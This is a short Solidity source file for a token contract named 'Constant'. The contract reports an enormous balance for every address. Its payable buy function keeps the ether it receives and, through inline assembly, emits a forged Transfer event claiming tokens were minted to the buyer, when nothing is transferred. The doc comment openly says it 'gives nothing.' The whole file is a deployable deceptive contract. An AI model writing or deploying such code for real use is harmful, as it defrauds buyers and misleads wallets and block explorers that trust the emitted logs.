// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// Says of everybody that they have very much, and gives nothing.
contract Constant {
    string public constant name = "Constant";
    string public constant symbol = "CONST";
    uint8 public constant decimals = 18;
    function balanceOf(address) external pure returns (uint256) { return 1e40; }
    function buy(uint256 told) external payable {
        assembly {
            mstore(0, told)
            log3(0, 32, 0xddf252ad1be2c89b69c2b068fc378daa952ba7f163c4a11628f55a4df523b3ef, 0, caller())
        }
    }
}
